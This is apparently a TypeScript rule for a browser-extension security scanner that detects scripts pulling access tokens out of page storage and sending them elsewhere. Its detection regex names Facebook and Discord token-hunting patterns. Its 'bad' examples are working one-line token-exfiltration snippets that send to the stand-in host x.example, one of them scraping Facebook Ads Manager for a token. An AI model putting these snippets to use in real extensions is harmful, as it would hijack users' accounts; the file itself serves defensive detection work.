import { apiPath, callsOf, constant, Op, readsOf, type ScriptFacts } from '../../facts/javascript/query.ts';
import { defineRule } from '../../rule.ts';
import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
import { expressionsOf, mentions, textsOf } from './network.ts';
import { runsInPages } from './places.ts';
import { leavesBy } from './sendings.ts';

/** Texts that only somebody who looks for access tokens of others needs. */
const HUNTS = /EAA[AB][A-Z]?\w?\\[wd]|EAA[AB]\[|"?accessToken\\?"?:\\?"?\(|access_token[:=]\\?"?\(\[?|__accessToken|mfa\\\.\[|\[\\w-\]\{24\}\\\.\[\\w-\]\{6\}|window\.__accessToken|adsmanager\.facebook\.com\/adsmanager\/manage|business\.facebook\.com\/content_management|webpackChunkdiscord_app/;
const TOKEN_KEY = /^(token|access_?token|auth_?token|id_?token|refresh_?token|jwt|session|sessionToken)$/i;

export const tokenTakenFromPage = defineRule({
  id: 'token-taken-from-page',
  title: 'Access tokens of web sites are taken out of their pages',
  severity: 'high',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-522',
  references: ['https://attack.mitre.org/techniques/T1528/'],
  why: 'An access token opens the account at that site to whoever holds it. Sites keep them where only their own pages should read them.',
  remedy: 'Use the site’s sign-in for other programs (OAuth) and ask for the rights that you need.',
  check: checkScripts(function* ({ script, file, facts, hit }) {
    if (runsInPages(facts, file.path)) {
      // The page's own storage, as a whole or by the name of a token.
      const taken = new Map<number, string>();
      for (const call of callsOf(script, 'localStorage.getItem', 'sessionStorage.getItem')) if (TOKEN_KEY.test(constant(script, call.args[0] ?? 0) ?? '')) taken.set(call.value, 'a token in the page’s storage');
      for (const value of readsOf(script, ...['token', 'access_token', 'accessToken', 'auth_token'].flatMap((name) => [`localStorage.${name}`, `sessionStorage.${name}`]))) taken.set(value, 'a token in the page’s storage');
      for (const call of callsOf(script, 'JSON.stringify', 'Object.entries', 'Object.assign')) if (call.args.some((arg) => isWholeStorage(script, arg))) taken.set(call.value, 'everything in the page’s storage');
      for (const [value, what] of taken) {
        const out = leavesBy(script, new Set([value]), ['network', 'message']);
        if (out?.kind === 'network') yield hit(value, { confidence: 'high', message: `It sends ${what} to ${out.to}.` });
        else if (out?.kind === 'message' && what.startsWith('everything')) yield hit(value, { severity: 'medium', message: `It hands ${what} to the background.` });
      }
    }
    if (!mentions(script, HUNTS)) return;
    // Either a text or an expression, or a name of the page's own.
    const at = [...textsOf(script), ...expressionsOf(script)].find(({ text }) => HUNTS.test(text))?.value ?? script.calls[0] ?? 0;
    const out = leavesBy(script, new Set(callsOf(script, 'fetch').map((call) => call.value)), ['network', 'message', 'storage']);
    yield hit(at, out?.kind === 'network' ? { severity: 'critical', message: `Answers of the site are searched for its access token and sent to ${out.to}.` } : { message: 'Pages are searched for the site’s own access token.' });
  }),
  examples: {
    bad: [
      contentExample('const t = localStorage.getItem("token"); fetch("https://x.example/t", { method: "POST", body: t });'),
      contentExample('chrome.runtime.sendMessage({ store: JSON.stringify(localStorage) });'),
      contentExample('navigator.sendBeacon("https://x.example/s", JSON.stringify(Object.entries(sessionStorage)));'),
      backgroundExample('fetch("https://adsmanager.facebook.com/adsmanager/manage/campaigns").then((r) => r.text()).then((t) => { const m = /EAAB\\w+/.exec(t); fetch("https://x.example/f?t=" + m[0]); });'),
    ],
    good: [
      contentExample('const theme = localStorage.getItem("theme"); fetch("https://x.example/t?theme=" + theme);'),
      backgroundExample('const token = localStorage.getItem("token"); fetch("https://api.example.com/me", { headers: { authorization: "Bearer " + token } });'),
      backgroundExample('chrome.identity.getAuthToken({ interactive: true }, (token) => { fetch("https://www.googleapis.com/x", { headers: { authorization: "Bearer " + token } }); });'),
    ],
  },
});

function isWholeStorage(script: ScriptFacts, value: number): boolean {
  const path = apiPath(script, value);
  if (path === 'localStorage' || path === 'sessionStorage') return true;
  return script.op[value] === Op.object && callsOf(script, 'Object.entries').some((call) => call.value === value);
}
